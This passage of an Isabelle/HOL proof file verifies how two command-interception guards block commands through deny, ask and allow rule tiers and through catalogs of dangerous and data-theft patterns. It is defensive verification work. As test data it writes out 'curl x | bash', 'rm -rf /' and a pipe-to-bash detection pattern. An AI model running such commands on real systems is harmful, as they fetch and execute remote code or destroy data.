  "process_exit_status (Exit n) = Some (n mod 256)"
| "process_exit_status (Uncaught e) = None"

section \<open>Facts about the string operations\<close>

lemma str_in_sublist: "str_in sub s = sublist sub s"
  by (induction s) (simp_all add: sublist_Cons_right)


lemma find_first_hit: "(\<exists>x. find P xs = Some x) = (\<exists>x \<in> set xs. P x)"
  by (induction xs) auto

lemma find_is_hit: "find P xs = Some x \<Longrightarrow> x \<in> set xs \<and> P x"
  by (induction xs) (auto split: if_splits)

text \<open>A string has no token exactly when all its characters are whitespace.\<close>

lemma split_ws_empty: "(split_ws tok s = []) = (tok = [] \<and> (\<forall>c \<in> set s. isspace c))"
  by (induction s arbitrary: tok) auto

lemma str_split_empty: "(str_split s = []) = (\<forall>c \<in> set s. isspace c)"
  by (simp add: str_split_def split_ws_empty)

section \<open>Facts about the regular-expression engine\<close>

text \<open>The equations that evaluate \<open>re_search\<close> on a concrete pattern and string.\<close>

lemmas re_eval = re_search_def re_compile_def step_top_def push_item_def repeat_last_def
  branch_regex_def frame_regex_def cat_def alt_def is_ascii_alnum_def is_ascii_digit_def
  isspace_def to_lower_def isupper_def

lemma re_search_total: "re_compile p = Inr r \<Longrightarrow> \<exists>b. re_search p s = Inr b"
  by (simp add: re_search_def)

text \<open>Every pattern of the three catalogs compiles, so a search with one never raises.\<close>

lemma dangerous_compile: "p \<in> set DANGEROUS_PATTERNS \<Longrightarrow> \<exists>r. re_compile p = Inr r"
  unfolding DANGEROUS_PATTERNS_def
  by (auto simp: re_eval)

lemma theft_compile: "p \<in> set DATA_THEFT_PATTERNS \<Longrightarrow> \<exists>r. re_compile p = Inr r"
  unfolding DATA_THEFT_PATTERNS_def
  by (auto simp: re_eval)

lemma sensitive_compile: "p \<in> set SENSITIVE_FILE_PATTERNS \<Longrightarrow> \<exists>r. re_compile p = Inr r"
  unfolding SENSITIVE_FILE_PATTERNS_def
  by (auto simp: re_eval)

lemma catalogs_never_raise:
  "\<forall>p \<in> set DANGEROUS_PATTERNS. \<exists>b. re_search p s = Inr b"
  "\<forall>p \<in> set (DATA_THEFT_PATTERNS @ SENSITIVE_FILE_PATTERNS). \<exists>b. re_search p s = Inr b"
proof -
  show "\<forall>p \<in> set DANGEROUS_PATTERNS. \<exists>b. re_search p s = Inr b"
    using dangerous_compile re_search_total by blast
  show "\<forall>p \<in> set (DATA_THEFT_PATTERNS @ SENSITIVE_FILE_PATTERNS). \<exists>b. re_search p s = Inr b"
  proof
    fix p assume "p \<in> set (DATA_THEFT_PATTERNS @ SENSITIVE_FILE_PATTERNS)"
    then have "p \<in> set DATA_THEFT_PATTERNS \<or> p \<in> set SENSITIVE_FILE_PATTERNS"
      by simp
    then show "\<exists>b. re_search p s = Inr b"
      using theft_compile sensitive_compile re_search_total by blast
  qed
qed

section \<open>Facts about the loops\<close>

lemma first_search_total:
  assumes "\<forall>p \<in> set ps. \<exists>b. rx p s = Inr b"
  shows "\<exists>r. first_search rx ps s = Inr r
              \<and> ((r \<noteq> None) = (\<exists>p \<in> set ps. rx p s = Inr True))"
  using assms by (induction ps) auto

lemma sensitive_search_total:
  assumes "\<forall>p \<in> set ps. \<exists>b. rx p s = Inr b"
  shows "\<exists>r. sensitive_search rx ps s = Inr r \<and>
           ((r \<noteq> None) = ((\<exists>p \<in> set ps. rx p s = Inr True)
                            \<and> list_ex (\<lambda>op. str_in op s) TRANSFER_VERBS))"
  using assms by (induction ps) auto

lemma find_matching_rule_none:
  assumes "\<forall>r \<in> set rules. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
  shows "find_matching_rule rx command rules = Inr None"
  using assms by (induction rules) auto

lemma find_matching_rule_first:
  assumes "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    and "match_pattern rx command (dict_get rule ''pattern'' '''') = Inr True"
  shows "find_matching_rule rx command (pre @ rule # post) = Inr (Some rule)"
  using assms by (induction pre) auto

lemma find_matching_rule_raises:
  assumes "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    and "match_pattern rx command (dict_get rule ''pattern'' '''') = Inl e"
  shows "find_matching_rule rx command (pre @ rule # post) = Inl e"
  using assms by (induction pre) auto

lemma find_matching_rule_at:
  assumes "k < length rules"
    and "\<forall>j<k. match_pattern rx command (dict_get (rules ! j) ''pattern'' '''') = Inr False"
    and "match_pattern rx command (dict_get (rules ! k) ''pattern'' '''') = Inr True"
  shows "find_matching_rule rx command (take k rules @ rules ! k # post)
           = Inr (Some (rules ! k))"
proof (rule find_matching_rule_first)
  show "\<forall>r \<in> set (take k rules).
          match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    using assms(1,2) by (auto simp: in_set_conv_nth)
  show "match_pattern rx command (dict_get (rules ! k) ''pattern'' '''') = Inr True"
    by (rule assms(3))
qed

lemma find_matching_rule_raises_at:
  assumes "k < length rules"
    and "\<forall>j<k. match_pattern rx command (dict_get (rules ! j) ''pattern'' '''') = Inr False"
    and "match_pattern rx command (dict_get (rules ! k) ''pattern'' '''') = Inl e"
  shows "find_matching_rule rx command (take k rules @ rules ! k # post) = Inl e"
proof (rule find_matching_rule_raises)
  show "\<forall>r \<in> set (take k rules).
          match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    using assms(1,2) by (auto simp: in_set_conv_nth)
  show "match_pattern rx command (dict_get (rules ! k) ''pattern'' '''') = Inl e"
    by (rule assms(3))
qed

text \<open>
  When no rule of a list matches, either every rule answers false and the loop returns
  \<open>None\<close>, or some rule raises and so does the loop.
\<close>

lemma find_matching_rule_no_match:
  assumes "\<forall>r \<in> set rules. match_pattern rx command (dict_get r ''pattern'' '''') \<noteq> Inr True"
  shows "((\<forall>r \<in> set rules. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False)
          \<and> find_matching_rule rx command rules = Inr None)
       \<or> ((\<exists>r \<in> set rules. \<exists>e. match_pattern rx command (dict_get r ''pattern'' '''') = Inl e)
          \<and> (\<exists>e. find_matching_rule rx command rules = Inl e))"
  using assms
proof (induction rules)
  case Nil
  then show ?case by simp
next
  case (Cons r rules)
  then show ?case
    by (cases "match_pattern rx command (dict_get r ''pattern'' '''')") auto
qed

section \<open>Facts about the configuration-driven main\<close>

text \<open>The equations that evaluate \<open>match_pattern\<close> on a concrete command and pattern.\<close>

lemmas match_eval = match_pattern_def split_colon_def parse_command_def str_split_def
  isspace_def dict_get_def

lemma tiers_get:
  "dict_get [(''deny'', d), (''ask'', a), (''allow'', l)] ''deny'' [] = d"
  "dict_get [(''deny'', d), (''ask'', a), (''allow'', l)] ''ask'' [] = a"
  "dict_get [(''deny'', d), (''ask'', a), (''allow'', l)] ''allow'' [] = l"
  by (simp_all add: dict_get_def)

lemma main_body_deny:
  assumes "find_matching_rule rx command (dict_get config ''deny'' []) = Inr (Some rule)"
    and "rule \<noteq> []"
  shows "main_body rx exec_mode command config inp run =
           \<lparr>status = Exit 1, log = [(command, ''BLOCKED'', dict_get rule ''reason'' '''')],
            prompts = 0, runs = []\<rparr>"
  using assms by (simp add: main_body_def truthy_def)

text \<open>
  A deny rule that is the empty dictionary fails the test \<open>if deny_rule:\<close>, and \<open>main\<close>
  goes on as with an empty deny tier. An exception in the deny tier ends \<open>main\<close>.
\<close>

lemma main_body_deny_empty:
  assumes "find_matching_rule rx command deny = Inr (Some [])"
  shows "main_body rx exec_mode command [(''deny'', deny), (''ask'', ask), (''allow'', allow)]
           inp run =
         main_body rx exec_mode command [(''deny'', []), (''ask'', ask), (''allow'', allow)]
           inp run"
  using assms
  by (simp add: main_body_def allow_tier_def truthy_def tiers_get
           split: sum.splits option.splits)

lemma main_body_deny_raises:
  assumes "find_matching_rule rx command (dict_get config ''deny'' []) = Inl e"
  shows "main_body rx exec_mode command config inp run =
           \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>"
  using assms by (simp add: main_body_def)

text \<open>The two modes of \<open>main\<close>, by the first argument.\<close>

lemma main_enhanced_check_only:
  assumes "first \<noteq> ''--exec''"
  shows "main_enhanced rx (first # rest) (Inr config) inp run =
           main_body rx False (str_join '' '' (first # rest)) config inp run"
  using assms by (simp add: main_enhanced_def)

lemma main_enhanced_exec:
  "main_enhanced rx (''--exec'' # args) (Inr config) inp run =
     main_body rx True (str_join '' '' args) config inp run"
  by (simp add: main_enhanced_def)

section \<open>Facts about pattern matching\<close>

lemma split_colon_first:
  assumes "CHR '':'' \<notin> set prog"
  shows "split_colon (prog @ CHR '':'' # rest) = (prog, rest)"
  using assms by (induction prog) (auto simp: split_colon_def)

lemma split_colon_no_colon:
  assumes "CHR '':'' \<notin> set pattern"
  shows "fst (split_colon pattern) = pattern"
  using assms by (induction pattern) (auto simp: split_colon_def)

text \<open>
  A pattern \<open>prog:regex:r\<close>: the program is compared first, and only when it fits is the
  expression \<open>r\<close> searched in the joined arguments; the answer of the search, an exception
  included, is the answer of \<open>match_pattern\<close>.
\<close>

lemma match_pattern_regex:
  assumes "CHR '':'' \<notin> set prog"
  shows "match_pattern rx command (prog @ '':regex:'' @ regex) =
           (if prog \<noteq> ''*'' \<and> fst (parse_command command) \<noteq> prog then Inr False
            else rx regex (str_join '' '' (snd (parse_command command))))"
proof -
  have "split_colon (prog @ '':regex:'' @ regex) = (prog, ''regex:'' @ regex)"
    using split_colon_first [OF assms, of "''regex:'' @ regex"] by simp
  then show ?thesis
    by (simp add: match_pattern_def Let_def split: prod.splits)
qed

section \<open>System harm (intercept.py)\<close>

text \<open>
  When no search raises, \<open>is_blocked\<close> answers true exactly when the program has a
  catalog entry that is \<open>*\<close> or occurs in the arguments, or a dangerous pattern is found
  in the whole command.
\<close>

lemma is_blocked_catalog:
  assumes "str_split command = cmd # rest"
    and "\<forall>p \<in> set DANGEROUS_PATTERNS. \<exists>b. rx p command = Inr b"
  shows "\<exists>reason. is_blocked rx command =
           Inr ((\<exists>entries. map_of BLOCKED_COMMANDS cmd = Some entries \<and>
                   (\<exists>b \<in> set entries. b = ''*'' \<or> sublist b (str_join '' '' rest)))
                \<or> (\<exists>p \<in> set DANGEROUS_PATTERNS. rx p command = Inr True), reason)"
proof -
  obtain r where r: "first_search rx DANGEROUS_PATTERNS command = Inr r"
      "(r \<noteq> None) = (\<exists>p \<in> set DANGEROUS_PATTERNS. rx p command = Inr True)"
    using first_search_total [where rx = rx and ps = DANGEROUS_PATTERNS and s = command]
      assms(2)
    by blast
  show ?thesis
  proof (cases "map_of BLOCKED_COMMANDS cmd")
    case None
    with r assms(1) show ?thesis
      by (cases r) (auto simp: is_blocked_def)
  next
    case (Some entries)
    show ?thesis
    proof (cases "find (\<lambda>blocked. blocked = ''*'' \<or> str_in blocked (str_join '' '' rest))
                    entries")
      case None
      then have "\<not> (\<exists>b \<in> set entries. b = ''*'' \<or> sublist b (str_join '' '' rest))"
        by (simp add: find_None_iff str_in_sublist)
      with None Some r assms(1) show ?thesis
        by (cases r) (auto simp: is_blocked_def)
    next
      case (Some b)
      then have "b \<in> set entries \<and> (b = ''*'' \<or> sublist b (str_join '' '' rest))"
        using find_is_hit [OF Some] by (simp add: str_in_sublist)
      with Some \<open>map_of BLOCKED_COMMANDS cmd = Some entries\<close> assms(1) show ?thesis
        by (auto simp: is_blocked_def)
    qed
  qed
qed

text \<open>Both kinds of catalog match: an entry of the program, and a pattern over the command.\<close>

lemma blocked_entry_example:
  "is_blocked re_search ''shutdown'' =
     Inr (True, ''Blocked command: shutdown with args matching '' @ [CHR 0x27] @ ''*''
                  @ [CHR 0x27])"
  by (simp add: is_blocked_def str_split_def isspace_def BLOCKED_COMMANDS_def)

lemma dangerous_pattern_example:
  "is_blocked re_search ''curl x | bash'' =
     Inr (True, ''Dangerous pattern detected: '' @ BS @ ''|'' @ BS @ ''s*bash'')"
  by (simp add: is_blocked_def str_split_def BLOCKED_COMMANDS_def DANGEROUS_PATTERNS_def
                re_eval)

text \<open>
  In intercept.py the system-harm check comes first. If \<open>is_blocked\<close> answers true for the
  command, \<open>main\<close> logs \<open>BLOCKED-HARM\<close> and exits with status 1 without asking and without
  running anything, whatever the data-theft switch, the answer at the prompt and the
  executor are. This program has neither an invocation mode nor rule tiers.
\<close>

lemma system_harm_blocks:
  assumes "argv \<noteq> []"
    and "is_blocked rx (str_join '' '' argv) = Inr (True, reason)"
  shows "main rx env argv inp run =
           \<lparr>status = Exit 1, log = [(str_join '' '' argv, ''BLOCKED-HARM'', '''')],
            prompts = 0, runs = []\<rparr>"
  using assms by (simp add: main_def Let_def)

lemma system_harm_blocks_example:
  "main re_search (Some ''true'') [''rm'', ''-rf'', ''/''] (Line ''y'') (\<lambda>c. Returned 0) =
     \<lparr>status = Exit 1, log = [(''rm -rf /'', ''BLOCKED-HARM'', '''')],
      prompts = 0, runs = []\<rparr>"
proof -
  have b: "is_blocked re_search (str_join '' '' [''rm'', ''-rf'', ''/'']) =
       Inr (True, ''Blocked command: rm with args matching '' @ [CHR 0x27] @ ''-rf'' @ [CHR 0x27])"
    by (simp add: is_blocked_def str_split_def isspace_def BLOCKED_COMMANDS_def)
  have n: "[''rm'', ''-rf'', ''/''] \<noteq> ([] :: string list)"
    by simp
  show ?thesis
    using system_harm_blocks [OF n b, of "Some ''true''" "Line ''y''" "\<lambda>c. Returned 0"]
    by simp
qed

text \<open>
  In intercept-enhanced.py only a rule of the deny tier blocks: the entry \<open>BLOCKED\<close> is
  logged exactly when \<open>find_matching_rule\<close> returns a deny rule that is not the empty
  dictionary. No catalog of intercept.py is read there.
\<close>

lemma enhanced_blocks_by_deny_rule_only:
  "(\<exists>reason. log (main_body rx exec_mode command config inp run)
               = [(command, ''BLOCKED'', reason)])
   = (\<exists>rule. find_matching_rule rx command (dict_get config ''deny'' []) = Inr (Some rule)
              \<and> rule \<noteq> [])"
  by (auto simp: main_body_def allow_tier_def finish_main_def truthy_def
           split: sum.splits option.splits if_splits run_result.splits)


section \<open>Rule resolution (intercept-enhanced.py)\<close>

text \<open>
  Claim C2, amended. Let position \<open>k\<close> of the deny tier hold the first rule whose pattern
  does not answer false. If that pattern matches, \<open>find_matching_rule\<close> returns the rule;
  if its evaluation raises, \<open>find_matching_rule\<close> raises and \<open>main\<close> ends with the uncaught
  exception. In both cases the result stays the same when the rules after position \<open>k\<close>
  are replaced by any others, also by rules whose pattern would raise: they are not
  consulted. When the rule returned is not the empty dictionary, \<open>main\<close> blocks with status
  1 in both modes whatever the later deny rules, the ask tier and the allow tier hold: no
  rule of a lower tier is consulted.

  The amended claim says nothing of a returned rule that is the empty dictionary. The
  theorem records what the code does with it: the test \<open>if deny_rule:\<close> fails and \<open>main\<close>
  goes on as with an empty deny tier.
\<close>

theorem C2_first_match_tier_priority:
  assumes "k < length deny"
    and "\<forall>j<k. match_pattern rx command (dict_get (deny ! j) ''pattern'' '''') = Inr False"
  shows "(match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inr True \<longrightarrow>
            find_matching_rule rx command deny = Inr (Some (deny ! k))
          \<and> find_matching_rule rx command (take k deny @ deny ! k # later)
              = Inr (Some (deny ! k))
          \<and> (deny ! k \<noteq> [] \<longrightarrow>
                main_body rx exec_mode command
                  [(''deny'', take k deny @ deny ! k # later), (''ask'', ask), (''allow'', allow)]
                  inp run =
                \<lparr>status = Exit 1,
                 log = [(command, ''BLOCKED'', dict_get (deny ! k) ''reason'' '''')],
                 prompts = 0, runs = []\<rparr>)
          \<and> (deny ! k = [] \<longrightarrow>
                main_body rx exec_mode command
                  [(''deny'', take k deny @ deny ! k # later), (''ask'', ask), (''allow'', allow)]
                  inp run =
                main_body rx exec_mode command
                  [(''deny'', []), (''ask'', ask), (''allow'', allow)] inp run))
       \<and> (match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inl e \<longrightarrow>
            find_matching_rule rx command deny = Inl e
          \<and> find_matching_rule rx command (take k deny @ deny ! k # later) = Inl e
          \<and> main_body rx exec_mode command
               [(''deny'', take k deny @ deny ! k # later), (''ask'', ask), (''allow'', allow)]
               inp run =
             \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)"
proof -
  have whole: "deny = take k deny @ deny ! k # drop (Suc k) deny"
    using assms(1) by (rule id_take_nth_drop)
  have hit: "find_matching_rule rx command (take k deny @ deny ! k # post)
               = Inr (Some (deny ! k))"
    if "match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inr True" for post
    using assms that by (rule find_matching_rule_at)
  have err: "find_matching_rule rx command (take k deny @ deny ! k # post) = Inl e"
    if "match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inl e" for post
    using assms that by (rule find_matching_rule_raises_at)
  have hit_whole: "find_matching_rule rx command deny = Inr (Some (deny ! k))"
    if "match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inr True"
    using hit [OF that, of "drop (Suc k) deny"] whole by simp
  have err_whole: "find_matching_rule rx command deny = Inl e"
    if "match_pattern rx command (dict_get (deny ! k) ''pattern'' '''') = Inl e"
    using err [OF that, of "drop (Suc k) deny"] whole by simp
  show ?thesis
    using hit [of later] err [of later] hit_whole err_whole
    by (auto simp: main_body_deny tiers_get main_body_deny_raises
             intro: main_body_deny_empty)
qed

theorem C2_first_match_tier_priority_witness:
  "(1::nat) < length [[(''pattern'', ''git:push'')],
                      [(''pattern'', ''rm:*''), (''reason'', ''destructive'')],
                      [(''pattern'', ''rm:regex:('')]]
   \<and> match_pattern re_search ''rm -rf /tmp/x'' ''git:push'' = Inr False
   \<and> match_pattern re_search ''rm -rf /tmp/x'' ''rm:*'' = Inr True
   \<and> main_body re_search True ''rm -rf /tmp/x''
        [(''deny'', [[(''pattern'', ''git:push'')],
                     [(''pattern'', ''rm:*''), (''reason'', ''destructive'')],
                     [(''pattern'', ''*:regex:['')]]),
         (''ask'', [[(''pattern'', ''*:regex:('')]]), (''allow'', [])]
        (Line ''y'') (\<lambda>c. Returned 0) =
       \<lparr>status = Exit 1, log = [(''rm -rf /tmp/x'', ''BLOCKED'', ''destructive'')],
        prompts = 0, runs = []\<rparr>
   \<and> match_pattern re_search ''rm -rf /tmp/x'' ''rm:regex:('' = Inl ReError
   \<and> main_body re_search False ''rm -rf /tmp/x''
        [(''deny'', [[(''pattern'', ''git:push'')], [(''pattern'', ''rm:regex:('')],
                     [(''pattern'', ''rm:*'')]]),
         (''ask'', []), (''allow'', [])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [], prompts = 0, runs = []\<rparr>"
proof -
  let ?deny = "[[(''pattern'', ''git:push'')],
                [(''pattern'', ''rm:*''), (''reason'', ''destructive'')],
                [(''pattern'', ''rm:regex:('')]]"
  let ?bad = "[[(''pattern'', ''git:push'')], [(''pattern'', ''rm:regex:('')]]"
  have k: "(1::nat) < length ?deny"
    by simp
  have kb: "(1::nat) < length ?bad"
    by simp
  have m0: "match_pattern re_search ''rm -rf /tmp/x'' ''git:push'' = Inr False"
    by (simp add: match_eval)
  have m1: "match_pattern re_search ''rm -rf /tmp/x'' ''rm:*'' = Inr True"
    by (simp add: match_eval)
  have m2: "match_pattern re_search ''rm -rf /tmp/x'' ''rm:regex:('' = Inl ReError"
    by (simp add: match_eval re_eval)
  have before: "\<forall>j<1. match_pattern re_search ''rm -rf /tmp/x''
                         (dict_get (?deny ! j) ''pattern'' '''') = Inr False"
    using m0 by (simp add: dict_get_def)
  have before_bad: "\<forall>j<1. match_pattern re_search ''rm -rf /tmp/x''
                         (dict_get (?bad ! j) ''pattern'' '''') = Inr False"
    using m0 by (simp add: dict_get_def)
  show ?thesis
    using C2_first_match_tier_priority [OF k before,
            where later = "[[(''pattern'', ''*:regex:['')]]" and exec_mode = True
              and ask = "[[(''pattern'', ''*:regex:('')]]" and allow = "[]"
              and inp = "Line ''y''" and run = "\<lambda>c. Returned 0" and e = ReError]
          C2_first_match_tier_priority [OF kb before_bad,
            where later = "[[(''pattern'', ''rm:*'')]]" and exec_mode = False
              and ask = "[]" and allow = "[]"
              and inp = EndOfInput and run = "\<lambda>c. Returned 0" and e = ReError]
          m0 m1 m2
    by (simp add: dict_get_def)
qed

text \<open>
  Without the amendment the statement fails. The empty command is what one empty
  argument gives. The deny tier holds one rule, the empty dictionary, whose pattern is the empty
  string: it matches the empty command and \<open>find_matching_rule\<close> returns it, yet \<open>main\<close>
  goes on to the ask tier and logs the reason of the ask rule. And a rule that raises
  before the first matching rule of its list keeps \<open>find_matching_rule\<close> from returning
  that rule.
\<close>

theorem C2_empty_deny_rule_counterexample:
  "match_pattern re_search '''' (dict_get [] ''pattern'' '''') = Inr True
   \<and> find_matching_rule re_search '''' [[]] = Inr (Some [])
   \<and> main_body re_search False ''''
        [(''deny'', [[]]), (''ask'', [[(''pattern'', ''*''), (''reason'', ''asked'')]]),
         (''allow'', [])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Exit 0, log = [('''', ''ALLOWED_ASK_DEFERRED'', ''asked'')],
        prompts = 0, runs = []\<rparr>
   \<and> match_pattern re_search ''ls -la'' ''ls:*'' = Inr True
   \<and> find_matching_rule re_search ''ls -la''
        [[(''pattern'', ''ls:regex:('')], [(''pattern'', ''ls:*'')]] = Inl ReError"
  by (simp add: main_body_def truthy_def match_eval re_eval)

section \<open>Malformed regular expressions (intercept-enhanced.py)\<close>

text \<open>
  Claim C3, amended. For a rule whose pattern is \<open>prog:regex:r\<close>: if the program of the
  rule does not fit the command, the rule does not match, whatever \<open>r\<close> is. If it fits,
  \<open>match_pattern\<close> answers what the search for \<open>r\<close> in the arguments answers, and when that
  search raises (a malformed \<open>r\<close>) nothing catches the exception: it leaves
  \<open>match_pattern\<close>, then \<open>find_matching_rule\<close> once the rules before have answered false,
  then \<open>main\<close>, in whichever tier the rule is read. In the deny tier, in the ask tier
  when no deny rule applied, and in the allow tier when no ask rule applied either, \<open>main\<close>
  ends with the uncaught exception, has logged nothing and runs nothing. When an ask rule
  applied, check-only mode ends with \<open>ALLOWED_ASK_DEFERRED\<close> and a refusal at the prompt
  with \<open>DENIED_BY_USER\<close> before the allow tier is read; after an approval the allow tier is
  read, and \<open>main\<close> ends with the uncaught exception after the one entry
  \<open>APPROVED_BY_USER\<close>, the command not run.
\<close>

theorem C3_regex_rule_evaluation:
  assumes "CHR '':'' \<notin> set prog"
    and "dict_get rule ''pattern'' '''' = prog @ '':regex:'' @ regex"
  shows "(prog \<noteq> ''*'' \<and> fst (parse_command command) \<noteq> prog \<longrightarrow>
            match_pattern rx command (prog @ '':regex:'' @ regex) = Inr False)
       \<and> (prog = ''*'' \<or> fst (parse_command command) = prog \<longrightarrow>
            match_pattern rx command (prog @ '':regex:'' @ regex) =
              rx regex (str_join '' '' (snd (parse_command command))))
       \<and> ((prog = ''*'' \<or> fst (parse_command command) = prog)
            \<and> rx regex (str_join '' '' (snd (parse_command command))) = Inl e
            \<and> (\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False)
          \<longrightarrow> find_matching_rule rx command (pre @ rule # post) = Inl e
              \<and> main_body rx exec_mode command
                   [(''deny'', pre @ rule # post), (''ask'', ask), (''allow'', allow)] inp run =
                  \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>
              \<and> (find_matching_rule rx command deny = Inr d \<and> truthy d = None \<longrightarrow>
                   main_body rx exec_mode command
                     [(''deny'', deny), (''ask'', pre @ rule # post), (''allow'', allow)] inp run =
                   \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)
              \<and> (find_matching_rule rx command deny = Inr d \<and> truthy d = None
                  \<and> find_matching_rule rx command ask = Inr a \<and> truthy a = None \<longrightarrow>
                   main_body rx exec_mode command
                     [(''deny'', deny), (''ask'', ask), (''allow'', pre @ rule # post)] inp run =
                   \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)
              \<and> (find_matching_rule rx command deny = Inr d \<and> truthy d = None
                  \<and> find_matching_rule rx command ask = Inr a \<and> truthy a = Some asked \<longrightarrow>
                   main_body rx exec_mode command
                     [(''deny'', deny), (''ask'', ask), (''allow'', pre @ rule # post)] inp run =
                   (if \<not> exec_mode then
                      \<lparr>status = Exit 0,
                       log = [(command, ''ALLOWED_ASK_DEFERRED'', dict_get asked ''reason'' '''')],
                       prompts = 0, runs = []\<rparr>
                    else if \<not> print_ask_message asked command inp then
                      \<lparr>status = Exit 1,
                       log = [(command, ''DENIED_BY_USER'', dict_get asked ''reason'' '''')],
                       prompts = 1, runs = []\<rparr>
                    else
                      \<lparr>status = Uncaught e,
                       log = [(command, ''APPROVED_BY_USER'', dict_get asked ''reason'' '''')],
                       prompts = 1, runs = []\<rparr>)))"
proof -
  note m = match_pattern_regex [OF assms(1), of rx command regex]
  have "find_matching_rule rx command (pre @ rule # post) = Inl e"
    if "prog = ''*'' \<or> fst (parse_command command) = prog"
      and "rx regex (str_join '' '' (snd (parse_command command))) = Inl e"
      and "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
  proof (rule find_matching_rule_raises)
    show "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
      by (rule that(3))
    show "match_pattern rx command (dict_get rule ''pattern'' '''') = Inl e"
      using that(1,2) m assms(2) by auto
  qed
  then show ?thesis
    using m by (auto simp: main_body_def allow_tier_def tiers_get)
qed

theorem C3_regex_rule_evaluation_witness:
  "CHR '':'' \<notin> set ''ls''
   \<and> dict_get [(''pattern'', ''ls:regex:('')] ''pattern'' '''' = ''ls'' @ '':regex:'' @ ''(''
   \<and> fst (parse_command ''ls -la'') = ''ls''
   \<and> re_search ''('' (str_join '' '' (snd (parse_command ''ls -la''))) = Inl ReError
   \<and> match_pattern re_search ''git status'' (''ls'' @ '':regex:'' @ ''('') = Inr False
   \<and> match_pattern re_search ''ls -la'' (''ls'' @ '':regex:'' @ ''('') = Inl ReError
   \<and> find_matching_rule re_search ''ls -la''
        ([[(''pattern'', ''rm:*'')]] @ [(''pattern'', ''ls:regex:('')] # []) = Inl ReError
   \<and> main_body re_search True ''ls -la''
        [(''deny'', [[(''pattern'', ''rm:*'')]] @ [(''pattern'', ''ls:regex:('')] # []),
         (''ask'', []), (''allow'', [])] (Line ''y'') (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [], prompts = 0, runs = []\<rparr>
   \<and> find_matching_rule re_search ''ls -la'' [] = Inr None
   \<and> find_matching_rule re_search ''ls -la'' [[(''pattern'', ''ls:*''), (''reason'', ''lists'')]]
       = Inr (Some [(''pattern'', ''ls:*''), (''reason'', ''lists'')])
   \<and> main_body re_search True ''ls -la''
        [(''deny'', []), (''ask'', [[(''pattern'', ''ls:*''), (''reason'', ''lists'')]]),
         (''allow'', [[(''pattern'', ''rm:*'')]] @ [(''pattern'', ''ls:regex:('')] # [])]
        (Line ''y'') (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [(''ls -la'', ''APPROVED_BY_USER'', ''lists'')],
        prompts = 1, runs = []\<rparr>"
proof -
  have c: "CHR '':'' \<notin> set ''ls''"
    by simp
  have d: "dict_get [(''pattern'', ''ls:regex:('')] ''pattern'' '''' = ''ls'' @ '':regex:'' @ ''(''"
    by (simp add: dict_get_def)
  have p: "fst (parse_command ''ls -la'') = ''ls''"
    by (simp add: parse_command_def str_split_def isspace_def)
  have q: "fst (parse_command ''git status'') \<noteq> ''ls''"
    by (simp add: parse_command_def str_split_def isspace_def)
  have r: "re_search ''('' (str_join '' '' (snd (parse_command ''ls -la''))) = Inl ReError"
    by (simp add: re_eval)
  have pre: "\<forall>r \<in> set [[(''pattern'', ''rm:*'')]].
               match_pattern re_search ''ls -la'' (dict_get r ''pattern'' '''') = Inr False"
    by (simp add: match_eval)
  have fd: "find_matching_rule re_search ''ls -la'' [] = Inr None"
    by simp
  have fa: "find_matching_rule re_search ''ls -la''
              [[(''pattern'', ''ls:*''), (''reason'', ''lists'')]]
            = Inr (Some [(''pattern'', ''ls:*''), (''reason'', ''lists'')])"
    by (simp add: match_eval)
  have t: "truthy None = None"
       "truthy (Some [(''pattern'', ''ls:*''), (''reason'', ''lists'')])
          = Some [(''pattern'', ''ls:*''), (''reason'', ''lists'')]"
    by (simp_all add: truthy_def)
  have y: "print_ask_message [(''pattern'', ''ls:*''), (''reason'', ''lists'')] ''ls -la''
             (Line ''y'')"
    by (simp add: print_ask_message_def str_lower_def str_strip_def isspace_def
                  to_lower_def isupper_def)
  have reason: "dict_get [(''pattern'', ''ls:*''), (''reason'', ''lists'')] ''reason'' ''''
                  = ''lists''"
    by (simp add: dict_get_def)
  show ?thesis
    using C3_regex_rule_evaluation [OF c d, where command = "''ls -la''" and rx = re_search
            and e = ReError and pre = "[[(''pattern'', ''rm:*'')]]" and post = "[]"
            and exec_mode = True and ask = "[]" and allow = "[]" and inp = "Line ''y''"
            and run = "\<lambda>c. Returned 0" and deny = "[]" and d = None and a = None]
          C3_regex_rule_evaluation [OF c d, where command = "''ls -la''" and rx = re_search
            and e = ReError and pre = "[[(''pattern'', ''rm:*'')]]" and post = "[]"
            and exec_mode = True
            and ask = "[[(''pattern'', ''ls:*''), (''reason'', ''lists'')]]"
            and inp = "Line ''y''" and run = "\<lambda>c. Returned 0" and deny = "[]" and d = None
            and a = "Some [(''pattern'', ''ls:*''), (''reason'', ''lists'')]"
            and asked = "[(''pattern'', ''ls:*''), (''reason'', ''lists'')]"]
          C3_regex_rule_evaluation [OF c d, where command = "''git status''"
            and rx = re_search]
          c d p q r pre fd fa t y reason
    by simp
qed

text \<open>
  Without the amendment the statement fails. The expression \<open>(\<close> does not compile. With
  the single deny rule \<open>ls:regex:(\<close> and the command \<open>ls -la\<close>, \<open>match_pattern\<close> does not
